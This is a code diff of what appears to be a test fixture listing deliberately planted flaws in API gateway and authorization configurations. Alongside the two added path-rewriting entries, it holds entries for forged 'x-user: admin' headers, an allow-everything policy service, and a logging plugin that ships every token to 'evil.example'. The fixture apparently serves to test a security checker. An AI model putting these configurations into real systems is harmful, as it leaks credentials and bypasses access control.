@@ -298,6 +298,10 @@ export const planted: readonly Planted[] = [
     name: 'an AWS integration that makes up a header', example: 'aws', named: ['AWS-16'],
     sin: at('aws', (request) => tokenIn(request) !== '', (request, _right, { letThrough }) => letThrough(request, 'aws', { 'x-user': 'admin' })),
   },
+  {
+    name: 'an AWS integration that asks for another path', example: 'aws', named: ['AWS-16'],
+    sin: at('aws', (request) => tokenIn(request) !== '', (request, _right, { letThrough }) => letThrough({ ...request, path: `/elsewhere${request.path}` }, 'aws')),
+  },
   { name: 'an AWS route without a scope', example: 'aws', named: ['AWS-03'], sin: holding('aws.route', () => true, (spec) => ({ ...spec, AuthorizationScopes: [] })) },
   { name: 'a route of AWS that takes any token but an ID token', example: 'functions', named: ['AWS-22'], sin: at('aws', (request) => claimsIn(request).typ === 'ID', () => answerOf(403, { message: 'Forbidden' })) },
   { name: 'an OPA with an older policy', example: 'sso', named: ['AZ-15'], sin: holding('opa.bundle', () => true, (spec) => ({ ...spec, active: { 'http://opa': 'older' } })) },
@@ -315,6 +319,7 @@ export const planted: readonly Planted[] = [
   { name: 'a log of somebody else that gets every token', example: 'sso', named: ['RCH-08'], sin: beside('kong.plugin', '#log', { name: 'http-log', enabled: true, config: { http_endpoint: 'http://evil.example/' } }) },
   { name: 'a guard that takes tokens of the query again', example: 'sso', named: ['RCH-09'], sin: plugin('authctl-token-guard', { refuse_query_tokens: false }) },
   { name: 'a gateway that makes up who calls', example: 'sso', named: ['RCH-06'], sin: at('kong', ({ header }) => header('authorization') !== undefined, (request, _right, { letThrough }) => letThrough(request, 'kong', { 'x-user': 'admin' })) },
+  { name: 'a gateway that asks its services for another path', example: 'sso', named: ['RCH-06'], sin: at('kong', ({ header }) => header('authorization') !== undefined, (request, _right, { letThrough }) => letThrough({ ...request, path: `/elsewhere${request.path}` }, 'kong')) },
   { name: 'an OPA that says yes to what the service refuses', example: 'hybrid', named: ['AZ-17'], sin: at('opa', () => true, () => answerOf(200, { result: { allow: true } })) },
   {
     name: 'a gateway that fetches the keys a token points to', example: 'sso', named: ['KEY-02'],
